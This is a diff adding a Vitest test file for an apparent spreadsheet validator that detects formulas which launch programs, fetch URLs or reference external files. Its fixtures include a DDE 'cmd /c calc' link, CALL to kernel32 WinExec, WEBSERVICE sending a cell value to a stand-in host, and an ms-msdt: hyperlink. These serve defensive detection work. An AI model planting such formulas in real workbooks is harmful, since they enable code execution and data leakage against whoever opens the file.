@@ -1,0 +1,99 @@
+import { describe, expect, it } from 'vitest';
+import { hyperlinkTarget, reachingCall, referencedPath } from '../../../../shared/validation/ooxml/formula-calls.ts';
+import { partCheckFor } from '../../../../shared/validation/ooxml/parts.ts';
+import { Report } from '../../../../shared/validation/report.ts';
+
+/** Worksheet functions that start a program or fetch a URL (shared/validation/ooxml/formula-calls.ts). */
+
+describe('calls that reach outside the workbook', () => {
+  it.each([
+    ['RTD("x.server",,"t")', 'RTD', 'runs'],
+    ['rtd ("x",,"t")', 'RTD', 'runs'],
+    ['CALL("kernel32","WinExec","JCJ","calc",0)', 'CALL', 'runs'],
+    ['REGISTER.ID("kernel32","WinExec")', 'REGISTER.ID', 'runs'],
+    ['EVALUATE("R"&"TD(1)")', 'EVALUATE', 'runs'],
+    ['FILES("\\\\host\\share\\*")', 'FILES', 'runs'],
+    ['SEND.KEYS("%{F4}")', 'SEND.KEYS', 'runs'],
+    ['1+_xlfn.WEBSERVICE("http://a.example/?"&A2)', 'WEBSERVICE', 'fetches'],
+    ['_xlfn.image("https://a.example/p.png")', 'IMAGE', 'fetches'],
+    ['IF(A1,_xlfn._xlws.FILTER(A:A,B:B),Image\n(A2))', 'IMAGE', 'fetches'],
+  ])('%s calls %s', (formula, name, reach) => {
+    expect(reachingCall(formula)).toEqual({ name, reach });
+  });
+
+  it.each([
+    'SUM(A1:A9)',
+    '"RTD(x)"&A1',
+    'CONCAT("a""IMAGE(",B2)',
+    'MYCALL(1)+IMAGES(2)+RTD2(3)',
+    'HYPERLINK("https://www.miit.gov.cn/")',
+    'RTD',
+  ])('%s calls nothing that reaches out', (formula) => {
+    expect(reachingCall(formula)).toBeUndefined();
+  });
+
+  it('finds one in any formula of a sheet, however the part is cut, and names the function', () => {
+    const sheet =
+      '<worksheet><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f></c></row></sheetData>' +
+      '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>&#82;TD&#40;&quot;x&quot;,,&quot;y&quot;)=1</formula1></dataValidation></dataValidations></worksheet>';
+    for (const size of [1, 5, 64]) {
+      const report = new Report();
+      const check = partCheckFor('xl/worksheets/sheet1.xml', report);
+      for (let at = 0; at < sheet.length; at += size) check.write(Buffer.from(sheet.slice(at, at + size)));
+      check.end();
+      expect(report.findings.map((f) => [f.code, f.detail])).toEqual([
+        ['OOXML_DDE', { where: 'xl/worksheets/sheet1.xml formula RTD' }],
+      ]);
+    }
+  });
+
+  it.each([
+    ['xl/worksheets/sheet1.xml', `<oleObjects><oleObject progId="Package" link="cmd|' /c calc'!A0" shapeId="1025"/>`],
+    ['xl/pivotCache/pivotCacheDefinition1.xml', '<cacheField name="x" formula="RTD(&quot;x&quot;,,1)"/>'],
+    ['xl/pivotTables/pivotTable1.xml', '<calculatedItem formula="RTD(&quot;x&quot;,,1)"/>'],
+  ])('reads the formulas in attributes of %s', (part, text) => {
+    const report = new Report();
+    const check = partCheckFor(part, report);
+    check.write(Buffer.from(text));
+    check.end();
+    expect(report.findings.map((f) => f.code)).toEqual(['OOXML_DDE']);
+  });
+
+  it('refuses a fetching call as an outside resource, in a form control’s formula too', () => {
+    const report = new Report();
+    const check = partCheckFor('xl/ctrlProps/ctrlProp1.xml', report);
+    check.write(
+      Buffer.from('<formControlPr objectType="CheckBox" fmlaLink="_xlfn.WEBSERVICE(&quot;http://a/&quot;)"/>'),
+    );
+    check.end();
+    expect(report.findings.map((f) => [f.code, f.detail])).toEqual([
+      ['OOXML_EXTERNAL', { kind: 'formula WEBSERVICE', target: 'xl/ctrlProps/ctrlProp1.xml' }],
+    ]);
+  });
+
+  it.each([
+    ["'\\\\host\\share\\[b.xlsx]S'!A1", '\\\\host\\share\\[b.xlsx]S'],
+    ["SUM('C:\\d\\[b.xlsx]S'!A1:A9)", 'C:\\d\\[b.xlsx]S'],
+    ["'https://host/d/[b.xlsx]S'!$A$1", 'https://host/d/[b.xlsx]S'],
+    ["'file:///C:/d/[b.xlsx]S'!A1", 'file:///C:/d/[b.xlsx]S'],
+  ])('%s refers to the file %s', (formula, path) => {
+    expect(referencedPath(formula)).toBe(path);
+  });
+
+  it.each(['SUBSTITUTE(A1,"\\","/")', 'SEARCH("https://",A1)', "'汇总表'!A1+Sheet2!B2", 'A:A/2'])(
+    '%s refers to no file',
+    (formula) => {
+      expect(referencedPath(formula)).toBeUndefined();
+    },
+  );
+
+  it.each([
+    ['HYPERLINK("\\\\host\\x.xlsx","附件")', '\\\\host\\x.xlsx'],
+    ['IF(A1,hyperlink ( " ms-msdt:x"),0)', 'ms-msdt:x'],
+    ['"HYPERLINK(""x"")"&HYPERLINK("https://a.example/")', 'https://a.example/'],
+    ['"HYPERLINK(""x"")"', undefined],
+    ['HYPERLINK(A1)', undefined],
+  ])('%s links to %s', (formula, target) => {
+    expect(hyperlinkTarget(formula)).toBe(target);
+  });
+});
